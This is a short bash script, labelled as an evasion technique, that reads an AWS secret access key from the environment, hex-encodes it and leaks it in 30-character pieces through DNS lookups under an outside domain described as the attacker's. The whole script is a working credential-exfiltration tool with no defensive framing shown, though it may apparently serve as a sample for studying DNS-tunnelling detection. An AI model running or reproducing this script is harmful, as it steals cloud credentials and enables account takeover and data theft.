#!/usr/bin/env bash
# Evasion: leaks an AWS secret key through DNS. A function prints the
# secret from the environment, hex-encoded in 30-character pieces; each
# piece is looked up as a name under the attacker's domain.
set -eu
secret_hex() { printenv AWS_SECRET_ACCESS_KEY | xxd -p | tr -d '\n'; }
hex=$(secret_hex)
for ((i = 0; i < ${#hex}; i += 30)); do
  dig +short "${hex:i:30}.$i.t.example-cdn-check.dev" >/dev/null
done
